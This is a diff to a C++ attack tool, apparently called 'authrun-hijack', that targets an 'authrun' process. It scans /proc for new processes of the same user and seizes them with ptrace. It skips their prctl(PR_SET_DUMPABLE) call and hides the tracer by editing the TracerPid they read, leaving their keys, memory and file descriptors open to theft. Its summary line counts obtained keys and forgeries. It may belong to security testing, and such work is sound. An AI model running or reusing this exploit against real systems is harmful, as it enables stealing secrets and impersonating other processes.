@@ -13,6 +13,7 @@
 // With --name authrun it does steps 1 and 2 to the runner itself and detaches once the runner has looked at
 // its TracerPid: the runner then runs dumpable, its memory (every key it makes) and fds open to the user.
 // x86_64 only. Run as root it first drops to uid/gid --uid (default 65534): the attack is a same-user one.
+#include <algorithm>
 #include <array>
 #include <cerrno>
 #include <chrono>
@@ -21,6 +22,7 @@
 #include <cstdlib>
 #include <cstring>
 #include <optional>
+#include <set>
 #include <string>
 #include <vector>
 
@@ -129,7 +131,6 @@ void impersonate(Fd in, Fd out, const RunKey& key, Tally& tally) {
 void hijack(pid_t pid, bool stop_runner, bool is_runner, Tally& tally) {
   Fd pidfd(pidfd_open(pid));
   if (!pidfd.valid()) return;
-  ::ptrace(PTRACE_SETOPTIONS, pid, nullptr, reinterpret_cast<void*>(PTRACE_O_TRACESYSGOOD));
   ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
   Fd pipe_in(pidfd_getfd(pidfd.get(), 0)), pipe_out(pidfd_getfd(pidfd.get(), 1));
   const pid_t runner = parent_of(pid);
@@ -153,6 +154,7 @@ void hijack(pid_t pid, bool stop_runner, bool is_runner, Tally& tally) {
     ::ptrace(PTRACE_GETREGS, pid, nullptr, &regs);
     const bool entry = static_cast<long long>(regs.rax) == -ENOSYS;
     const long nr = static_cast<long>(regs.orig_rax);
+    if (std::getenv("HIJACK_DEBUG") && std::getenv("HIJACK_DEBUG")[0] == '2') say((entry ? "enter " : "exit ") + std::to_string(nr) + " rax " + std::to_string(static_cast<long long>(regs.rax)));
     if (entry && nr == SYS_prctl && regs.rdi == PR_SET_DUMPABLE) {
       regs.orig_rax = static_cast<unsigned long long>(-1);  // skipped: it stays dumpable (and ours)
       ::ptrace(PTRACE_SETREGS, pid, nullptr, &regs);
@@ -161,10 +163,12 @@ void hijack(pid_t pid, bool stop_runner, bool is_runner, Tally& tally) {
       ::ptrace(PTRACE_SETREGS, pid, nullptr, &regs);
     } else if (!entry && nr == SYS_openat && peek(pid, regs.rsi, 18) == std::string("/proc/self/status", 18)) {
       status_fd = static_cast<int>(regs.rax);
+      if (std::getenv("HIJACK_DEBUG")) say("status fd " + std::to_string(status_fd));
     } else if (entry && nr == SYS_read && static_cast<int>(regs.rdi) == status_fd && status_fd >= 0) {
       read_buf = regs.rsi;
     } else if (!entry && nr == SYS_read && read_buf != 0 && static_cast<long long>(regs.rax) > 0) {
       std::string text = peek(pid, read_buf, static_cast<std::size_t>(regs.rax));
+      if (std::getenv("HIJACK_DEBUG")) say("read " + std::to_string(text.size()) + " bytes of status");
       const auto at = text.find("TracerPid:\t");
       if (at != std::string::npos) {
         std::size_t i = at + 11;
@@ -174,7 +178,6 @@ void hijack(pid_t pid, bool stop_runner, bool is_runner, Tally& tally) {
         if (is_runner) {
           // The runner looked: let it go, dumpable for the rest of its life.
           ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
-          ::usleep(20000);
           struct stat st {};
           if (::stat(("/proc/" + std::to_string(pid) + "/status").c_str(), &st) == 0 && st.st_uid == ::getuid() &&
               Fd(pidfd_getfd(pidfd.get(), 0)).valid()) {
@@ -259,32 +262,67 @@ int run(std::vector<std::string> args) {
   std::signal(SIGPIPE, SIG_IGN);
   Tally tally;
   const auto until = Clock::now() + std::chrono::duration_cast<Clock::duration>(std::chrono::duration<double>(std::atof(args[0].c_str())));
-  pid_t last = 0;
-  for (DIR* d = ::opendir("/proc"); d; ::closedir(d), d = nullptr) {
-    while (dirent* e = ::readdir(d)) last = std::max<pid_t>(last, std::atoi(e->d_name));
+  // Pids wrap at pid_max: a new process is one whose pid was not there before. Ours is the newest so far.
+  std::set<pid_t> known;
+  if (DIR* d = ::opendir("/proc")) {
+    while (dirent* e = ::readdir(d)) known.insert(std::atoi(e->d_name));
+    ::closedir(d);
   }
-  while (Clock::now() < until) {
-    // New pids come in order: try the next few; a pid of ours is seized as soon as its execve lets us.
-    for (pid_t pid = last + 1; pid <= last + 64; ++pid) {
-      struct stat st {};
-      if (::stat(("/proc/" + std::to_string(pid)).c_str(), &st) != 0) continue;
-      last = pid;
-      if (st.st_uid != ::getuid()) continue;
-      // A new thread of a process has a pid too: only a thread group's leader is a new process.
-      const std::string status = read_text("/proc/" + std::to_string(pid) + "/status");
-      if (status.find("\nTgid:\t" + std::to_string(pid) + "\n") == std::string::npos) continue;
-      const auto give_up = Clock::now() + 50ms;
-      bool seized = false;
-      while (!seized && Clock::now() < give_up) seized = ::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) == 0;
-      const std::string comm = comm_of(pid);
-      if (comm != name) {
-        if (seized) ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
-        continue;
+  const pid_t pid_max = std::max(1024, std::atoi(read_text("/proc/sys/kernel/pid_max").c_str()));
+  pid_t last = ::getpid();
+  // Tries to seize new process `pid` (a pid above every one seen before) and, if it is the target, hijacks it.
+  auto consider = [&](pid_t pid) {
+    // Ours (the owner of /proc/PID is root while a process is non-dumpable: the Uid line says it), and a thread
+    // group's leader (a new thread has a pid too).
+    const std::string status = read_text("/proc/" + std::to_string(pid) + "/status");
+    const std::string uid = std::to_string(::getuid());
+    if (status.find("\nUid:\t" + uid + "\t") == std::string::npos) return;
+    if (status.find("\nTgid:\t" + std::to_string(pid) + "\n") == std::string::npos) return;
+    const auto give_up = Clock::now() + 50ms;
+    bool seized = false;
+    while (!seized && Clock::now() < give_up) seized = ::ptrace(PTRACE_SEIZE, pid, nullptr, reinterpret_cast<void*>(PTRACE_O_TRACESYSGOOD)) == 0;
+    if (std::getenv("HIJACK_DEBUG")) say("pid " + std::to_string(pid) + " " + comm_of(pid) + (seized ? " seized" : " not seized"));
+    if (comm_of(pid) != name) {
+      if (seized) {
+        // Not a target: let it go (a seized tracee must be stopped to be detached).
+        int status = 0;
+        ::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr);
+        if (next_stop(pid, status)) ::ptrace(PTRACE_DETACH, pid, nullptr, nullptr);
       }
-      ++tally.seen;
-      if (!seized) continue;
-      ++tally.seized;
-      hijack(pid, stop_runner, name == "authrun", tally);
+      return;
+    }
+    ++tally.seen;
+    if (!seized) return;
+    ++tally.seized;
+    hijack(pid, stop_runner, name == "authrun", tally);
+  };
+  auto rescan = Clock::now();
+  while (Clock::now() < until) {
+    // New pids come in order: the next few are probed as fast as we can; every few milliseconds /proc is read
+    // whole, for those that came while we were busy or past the probe (other users' processes take pids too).
+    bool found = false;
+    for (pid_t step = 1; step <= 16 && !found; ++step) {
+      const pid_t pid = (last + step) % pid_max;
+      if (known.count(pid) || ::access(("/proc/" + std::to_string(pid)).c_str(), F_OK) != 0) continue;
+      found = true;
+      last = pid;
+      known.insert(pid);
+      consider(pid);
+    }
+    if (found || Clock::now() < rescan) continue;
+    rescan = Clock::now() + 2ms;
+    std::vector<pid_t> fresh;
+    if (DIR* d = ::opendir("/proc")) {
+      while (dirent* e = ::readdir(d)) {
+        const pid_t pid = std::atoi(e->d_name);
+        if (pid > 0 && known.insert(pid).second) fresh.push_back(pid);
+      }
+      ::closedir(d);
+    }
+    std::sort(fresh.begin(), fresh.end());
+    for (pid_t pid : fresh) {
+      last = pid;
+      consider(pid);
     }
   }
   std::fprintf(stderr, "authrun-hijack[%d] RESULT mode=hijack seen=%d seized=%d asked=%d keys_obtained=%d tasks_read=%d forged=%d left_dumpable=%d\n",
